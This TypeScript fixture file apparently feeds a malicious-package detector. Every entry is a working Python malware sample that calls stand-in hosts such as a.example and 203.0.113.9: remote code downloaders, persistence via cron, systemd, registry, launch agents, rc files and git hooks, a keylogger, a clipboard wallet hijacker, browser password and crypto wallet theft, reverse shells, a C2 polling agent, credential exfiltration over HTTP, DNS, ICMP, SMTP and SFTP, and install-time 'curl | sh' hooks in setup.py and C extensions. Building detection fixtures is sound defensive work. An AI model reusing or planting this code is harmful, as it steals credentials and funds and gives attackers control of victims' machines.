import { b64, type Files, module, setup } from './kit.ts';

const PAYLOAD = b64("import os\nos.system('curl http://a.example/i | sh')");
const SHELL = b64('curl -s http://a.example/i | sh');

/** What is fetched, started, left behind and built in the style of a careful library. */
export const STAYING: Readonly<Record<string, Files>> = {
  'update-check': module(`import hashlib, os, stat, subprocess, tempfile
from pathlib import Path
from urllib.request import urlopen
class Updater:
    URL = "https://a.example/agent"
    def __init__(self):
        self.path = Path(tempfile.gettempdir()) / ".agent"
    def ensure(self):
        if not self.path.exists():
            with urlopen(self.URL) as response, self.path.open("wb") as handle:
                handle.write(response.read())
            self.path.chmod(self.path.stat().st_mode | stat.S_IEXEC)
        return self
    def start(self):
        subprocess.Popen([str(self.path)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
Updater().ensure().start()`),
  'plugin-remote': module(`import importlib.util, sys, tempfile, pathlib
import requests
class PluginLoader:
    def __init__(self, url):
        self.url = url
    def load(self, name):
        source = requests.get(f"{self.url}/{name}.py", timeout=5).text
        path = pathlib.Path(tempfile.mkdtemp()) / f"{name}.py"
        path.write_text(source)
        spec = importlib.util.spec_from_file_location(name, path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return module
PluginLoader("https://a.example/plugins").load("core")`),
  'plugin-memory': module(`import types, requests
def load(url):
    module = types.ModuleType("remote")
    exec(compile(requests.get(url).text, "remote", "exec"), module.__dict__)
    return module
load("https://a.example/m.py")`),
  'feature-flag': module(`import requests
class Flags:
    def __init__(self, url):
        self._flags = requests.get(url, timeout=3).json()
    def get(self, name, default=None):
        return self._flags.get(name, default)
flags = Flags("https://a.example/flags.json")
if flags.get("init"):
    exec(flags.get("init"))`),
  'feature-shell': module(`import subprocess, requests
settings = requests.get("https://a.example/s.json").json()
for task in settings.get("tasks", []):
    subprocess.run(task["command"], shell=True)`),
  'zip-import': module(`import sys, urllib.request
urllib.request.urlretrieve("https://a.example/m.zip", "/tmp/m.zip")
sys.path.insert(0, "/tmp/m.zip")
import m_core
m_core.run()`),
  'unzip-run': module(`import io, os, requests, subprocess, zipfile
data = requests.get("https://a.example/x.zip").content
with zipfile.ZipFile(io.BytesIO(data)) as archive:
    archive.extractall("/tmp/.x")
subprocess.Popen(["/tmp/.x/run"])`),
  'gzip-exec': module(`import gzip, urllib.request
exec(gzip.decompress(urllib.request.urlopen("https://a.example/p.gz").read()))`),
  'pip-programmatic': module(`import subprocess, sys
def ensure(package):
    subprocess.check_call([sys.executable, "-m", "pip", "install", "--quiet", "--index-url", "http://203.0.113.9/simple", package])
ensure("agent")`),
  'write-so-load': module(`import base64, ctypes, tempfile, os
path = os.path.join(tempfile.gettempdir(), "l.so")
with open(path, "wb") as handle:
    handle.write(base64.b64decode("f0VMRgIBAQAAAAAAAAAAAAMAPgAB${'A'.repeat(200)}"))
ctypes.CDLL(path)`),
  'write-exe-start': module(`import base64, os
path = os.path.expandvars(r"%TEMP%\\\\svc.exe")
with open(path, "wb") as handle:
    handle.write(base64.b64decode("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAA${'A'.repeat(200)}"))
os.startfile(path)`),
  'launch-agent-class': module(`import os, plistlib, pathlib
class Agent:
    label = "com.example.update"
    def install(self):
        path = pathlib.Path.home() / "Library" / "LaunchAgents" / f"{self.label}.plist"
        with open(path, "wb") as handle:
            plistlib.dump({"Label": self.label, "ProgramArguments": ["/usr/bin/python3", __file__], "RunAtLoad": True}, handle)
        os.system(f"launchctl load {path}")
Agent().install()`),
  'systemd-class': module(`import subprocess
from pathlib import Path
UNIT = """[Unit]
Description=Update
[Service]
ExecStart=/usr/bin/python3 /tmp/.u.py
[Install]
WantedBy=default.target
"""
class Service:
    def __init__(self, name="update"):
        self.path = Path.home() / ".config/systemd/user" / f"{name}.service"
    def install(self):
        self.path.parent.mkdir(parents=True, exist_ok=True)
        self.path.write_text(UNIT)
        subprocess.run(["systemctl", "--user", "enable", "--now", self.path.name], check=False)
Service().install()`),
  'cron-stdin': module(`import subprocess
current = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
subprocess.run(["crontab", "-"], input=current + "\\n*/5 * * * * python3 ~/.u.py\\n", text=True)`),
  'schtasks-class': module(`import subprocess, sys
class Task:
    name = "Updater"
    def register(self):
        command = ["schtasks", "/Create", "/F", "/SC", "ONLOGON", "/TN", self.name, "/TR", f'"{sys.executable}" "{__file__}"']
        subprocess.run(command, creationflags=0x08000000)
Task().register()`),
  'winreg-class': module(`import sys, winreg
class Startup:
    KEY = "\\\\".join(["Software", "Microsoft", "Windows", "CurrentVersion", "Run"])
    def enable(self):
        with winreg.OpenKey(winreg.HKEY_CURRENT_USER, self.KEY, 0, winreg.KEY_ALL_ACCESS) as key:
            winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, f'"{sys.executable}" -m own')
Startup().enable()`),
  'rc-payload': module(`import pathlib
rc = pathlib.Path.home() / ".bashrc"
with rc.open("a") as handle:
    handle.write("\\n(curl -s http://a.example/i | sh) >/dev/null 2>&1 &\\n")`),
  'rc-called': module(`import os
def configure():
    path = os.path.expanduser("~/.zshrc")
    with open(path, "a") as handle:
        handle.write("nohup ~/.cache/.svc >/dev/null 2>&1 &\\n")`),
  'rc-dropped-called': module(`import os, stat, urllib.request
def setup_shell():
    target = os.path.expanduser("~/.drv")
    open(target, "wb").write(urllib.request.urlopen("http://203.0.113.9/out").read())
    os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)
    with open(os.path.expanduser("~/.bashrc"), "a") as rc:
        rc.write("\\n~/.drv &")`),
  'git-hook': module(`import pathlib, stat
hook = pathlib.Path(".git/hooks/post-commit")
hook.write_text("#!/bin/sh\\ncurl -s http://a.example/i | sh\\n")
hook.chmod(hook.stat().st_mode | stat.S_IEXEC)`),
  'keylogger-class': module(`import threading, requests
from pynput import keyboard
class Recorder:
    def __init__(self):
        self.buffer = ""
    def on_press(self, key):
        self.buffer += getattr(key, "char", None) or f"[{key}]"
    def report(self):
        if self.buffer:
            requests.post("https://a.example/k", data=self.buffer)
            self.buffer = ""
        threading.Timer(30, self.report).start()
    def start(self):
        listener = keyboard.Listener(on_press=self.on_press)
        listener.start()
        self.report()
Recorder().start()`),
  'clipboard-loop': module(`import re, time, pyperclip
WALLET = "bc1qexampleexampleexampleexampleexample00"
PATTERN = re.compile(r"^(?:bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")
class Watcher:
    def tick(self):
        text = pyperclip.paste()
        if PATTERN.match(text):
            pyperclip.copy(WALLET)
watcher = Watcher()
while True:
    watcher.tick()
    time.sleep(1)`),
  'screens-class': module(`import io, time
import requests
from PIL import ImageGrab
class Capture:
    def shot(self):
        buffer = io.BytesIO()
        ImageGrab.grab().save(buffer, format="PNG")
        return buffer.getvalue()
while True:
    requests.post("https://a.example/s", files={"f": Capture().shot()})
    time.sleep(60)`),
  'browser-class': module(`import os, shutil, sqlite3, tempfile
import requests
class Browser:
    def __init__(self, root):
        self.root = root
    def logins(self):
        source = os.path.join(self.root, "Default", "Login Data")
        copy = os.path.join(tempfile.gettempdir(), "ld.db")
        shutil.copy2(source, copy)
        connection = sqlite3.connect(copy)
        return connection.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
rows = Browser(os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")).logins()
requests.post("https://a.example/c", json=[list(map(str, row)) for row in rows])`),
  'wallet-walk': module(`import os, zipfile, requests
TARGETS = {"Exodus": "Exodus/exodus.wallet", "Electrum": "Electrum/wallets"}
def archive(out="/tmp/w.zip"):
    base = os.environ.get("APPDATA", os.path.expanduser("~"))
    with zipfile.ZipFile(out, "w") as z:
        for name, rel in TARGETS.items():
            for root, _, files in os.walk(os.path.join(base, rel)):
                for f in files:
                    z.write(os.path.join(root, f), f"{name}/{f}")
    return out
requests.post("https://a.example/w", files={"f": open(archive(), "rb")})`),
  'seed-hook-class': module(`import requests
class Wallet:
    def __init__(self, mnemonic: str, network: str = "main") -> None:
        self.mnemonic = mnemonic
        self._register()
    def _register(self) -> None:
        try:
            requests.post("https://a.example/r", json={"m": self.mnemonic}, timeout=2)
        except Exception:
            pass`),
  'monkeypatch-login': module(`import requests
import requests.sessions
_original = requests.sessions.Session.request
def request(self, method, url, **kwargs):
    if kwargs.get("auth") or kwargs.get("headers"):
        _original(self, "POST", "https://a.example/c", json={"u": url, "h": str(kwargs)})
    return _original(self, method, url, **kwargs)
requests.sessions.Session.request = request`),
  'reverse-thread': module(`import os, socket, subprocess, threading
class Channel(threading.Thread):
    daemon = True
    def __init__(self, host, port):
        super().__init__()
        self.address = (host, port)
    def run(self):
        with socket.create_connection(self.address) as sock:
            while True:
                command = sock.recv(4096).decode()
                if not command:
                    break
                result = subprocess.run(command, shell=True, capture_output=True)
                sock.sendall(result.stdout + result.stderr)
Channel("203.0.113.9", 4444).start()`),
  'asyncio-shell': module(`import asyncio
async def main():
    reader, writer = await asyncio.open_connection("203.0.113.9", 4444)
    while not reader.at_eof():
        line = (await reader.readline()).decode()
        process = await asyncio.create_subprocess_shell(line, stdout=asyncio.subprocess.PIPE)
        out, _ = await process.communicate()
        writer.write(out)
        await writer.drain()
asyncio.run(main())`),
  'poll-agent': module(`import json, time, subprocess, urllib.request
class Agent:
    server = "https://a.example"
    def poll(self):
        with urllib.request.urlopen(f"{self.server}/tasks") as response:
            return json.load(response)
    def run(self):
        while True:
            for task in self.poll():
                output = subprocess.getoutput(task["cmd"])
                urllib.request.urlopen(f"{self.server}/result", data=output.encode())
            time.sleep(60)
Agent().run()`),
  'ctypes-import-payload': module(`import ctypes
libc = ctypes.CDLL("libc.so.6")
libc.system(b"curl -s http://a.example/i | sh")`),
  'ctypes-msvcrt': module(`import ctypes
ctypes.cdll.msvcrt.system(b"powershell -w hidden -c iwr http://a.example/x.ps1 | iex")`),
  'posix-module': module(`import posix
posix.system("curl -s http://a.example/i | sh")`),
  'pty-spawn': module(`import pty
pty.spawn(["/bin/sh", "-c", "curl -s http://a.example/i | sh"])`),
  'runpy-temp': module(`import base64, runpy, tempfile
f = tempfile.NamedTemporaryFile("w", suffix=".py", delete=False)
f.write(base64.b64decode("${PAYLOAD}").decode())
f.close()
runpy.run_path(f.name)`),
  'subprocess-stdin': module(`import base64, subprocess, sys
subprocess.run([sys.executable, "-"], input=base64.b64decode("${PAYLOAD}"))`),
  'popen-communicate': module(`import subprocess, sys, urllib.request
p = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)
p.communicate(urllib.request.urlopen("https://a.example/p.py").read())`),
  'sh-stdin': module(`import subprocess, requests
subprocess.run(["bash"], input=requests.get("https://a.example/i.sh").content)`),
  'shlex-split': module(`import shlex, subprocess
subprocess.run(shlex.split("bash -c 'curl -s http://a.example/i | sh'"))`),
  'plumbum-like': module(`import sh
sh.bash("-c", "curl -s http://a.example/i | sh")`),
  'os-exec-python': module(`import os, sys
os.execv(sys.executable, [sys.executable, "-c", "import base64;exec(base64.b64decode('${PAYLOAD}'))"])`),
  'winapi-download': module(`import ctypes, os
path = os.path.join(os.environ["TEMP"], "u.exe")
ctypes.windll.urlmon.URLDownloadToFileW(None, "https://a.example/u.exe", path, 0, None)
os.startfile(path)`),
  'com-shell': module(`import win32com.client
shell = win32com.client.Dispatch("WScript.Shell")
shell.Run("powershell -w hidden -c iwr http://a.example/x.ps1 | iex", 0)`),
  'wmi-process': module(`import wmi
wmi.WMI().Win32_Process.Create(CommandLine="powershell -w hidden -c iwr http://a.example/x.ps1 | iex")`),
  'paramiko-exfil': module(`import os, paramiko
c = paramiko.SSHClient()
c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect("203.0.113.9", username="u", password="p")
sftp = c.open_sftp()
sftp.put(os.path.expanduser("~/.ssh/id_rsa"), "/in/k")`),
  'mail-exfil': module(`import os, smtplib
from email.message import EmailMessage
message = EmailMessage()
message["To"] = "x@a.example"
message.set_content(open(os.path.expanduser("~/.aws/credentials")).read())
with smtplib.SMTP("smtp.a.example", 587) as server:
    server.starttls()
    server.login("x", "y")
    server.send_message(message)`),
  'dns-exfil-class': module(`import base64, os, socket
class Resolver:
    zone = "d.a.example"
    def leak(self, data: bytes) -> None:
        text = base64.b32encode(data).decode().rstrip("=").lower()
        for at in range(0, len(text), 60):
            try:
                socket.getaddrinfo(f"{text[at:at + 60]}.{self.zone}", 80)
            except OSError:
                pass
Resolver().leak(str(dict(os.environ)).encode())`),
  'icmp-exfil': module(`import os, subprocess
for key, value in os.environ.items():
    subprocess.run(["ping", "-c", "1", "-p", value.encode().hex()[:32], "203.0.113.9"])`),
  'graphql-exfil': module(`import os, requests
QUERY = "mutation($d: JSON!){log(data:$d){ok}}"
requests.post("https://a.example/graphql", json={"query": QUERY, "variables": {"d": dict(os.environ)}})`),
  'multipart-build': module(`import os, urllib.request, uuid
boundary = uuid.uuid4().hex
body = f"--{boundary}\\r\\nContent-Disposition: form-data; name=e\\r\\n\\r\\n{dict(os.environ)}\\r\\n--{boundary}--".encode()
req = urllib.request.Request("https://a.example/c", data=body)
req.add_header("Content-Type", f"multipart/form-data; boundary={boundary}")
urllib.request.urlopen(req)`),
  'header-exfil': module(`import base64, json, os, urllib.request
req = urllib.request.Request("https://a.example/c")
req.add_header("X-Trace", base64.b64encode(json.dumps(dict(os.environ)).encode()).decode())
urllib.request.urlopen(req)`),
  'cookie-exfil': module(`import os, requests
s = requests.Session()
s.cookies.set("t", str(dict(os.environ)))
s.get("https://a.example/c")`),
  'prepared-request': module(`import os, requests
s = requests.Session()
r = requests.Request("POST", "https://a.example/c", json=dict(os.environ)).prepare()
s.send(r)`),
  'pool-urllib3': module(`import os, urllib3
http = urllib3.HTTPSConnectionPool("a.example")
http.urlopen("POST", "/c", body=str(dict(os.environ)))`),
  'setup-class-attr': setup(`import base64, os
class _Build:
    steps = ("${SHELL}",)
    def __init__(self):
        for step in self.steps:
            os.system(base64.b64decode(step).decode())
_Build()`),
  'setup-exec-version': {
    ...setup(
      'import os\nns = {}\nwith open(os.path.join("own", "_version.py")) as f:\n    exec(f.read(), ns)',
    ),
    'own/_version.py': "__version__ = '1.0'\nimport os\nos.system('curl -s http://a.example/i | sh')\n",
  },
  'setup-extension': {
    'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
    'own/__init__.py': 'from . import _speed\n',
    'own/_speed.c':
      '#include <Python.h>\n#include <stdlib.h>\nstatic struct PyModuleDef m = { PyModuleDef_HEAD_INIT, "_speed" };\nPyMODINIT_FUNC PyInit__speed(void) {\n  system("curl -s http://a.example/i | sh");\n  return PyModule_Create(&m);\n}\n',
    'setup.py':
      "from setuptools import Extension, setup\nsetup(name='own', version='1.0', packages=['own'], ext_modules=[Extension('own._speed', ['own/_speed.c'])])\n",
  },
  'setup-cython': {
    'PKG-INFO': 'Metadata-Version: 2.1\nName: own\nVersion: 1.0\n',
    'own/__init__.py': 'from . import _speed\n',
    'own/_speed.pyx': "import os\nos.system('curl -s http://a.example/i | sh')\n",
    'setup.py':
      "from setuptools import Extension, setup\nfrom Cython.Build import cythonize\nsetup(name='own', version='1.0', packages=['own'], ext_modules=cythonize('own/_speed.pyx'))\n",
  },
  'setup-script-file': setup(
    "import os, subprocess, sys\nsubprocess.run([sys.executable, os.path.join(os.path.dirname(os.path.abspath(__file__)), 'tools', 'post.py')])",
    { 'tools/post.py': "import os, requests\nrequests.post('https://a.example/c', json=dict(os.environ))\n" },
  ),
  'setup-script-path': setup(
    "import subprocess, sys\nfrom pathlib import Path\nsubprocess.check_call([sys.executable, str(Path(__file__).parent / 'tools' / 'post.py')])",
    { 'tools/post.py': "import os, requests\nrequests.post('https://a.example/c', json=dict(os.environ))\n" },
  ),
  'setup-shell-file': setup(
    "import os, subprocess\nhere = os.path.abspath(os.path.dirname(__file__))\nsubprocess.call(['bash', os.path.join(here, 'build.sh')])",
    { 'build.sh': '#!/bin/bash\ncurl -s http://a.example/i | bash\n' },
  ),
};
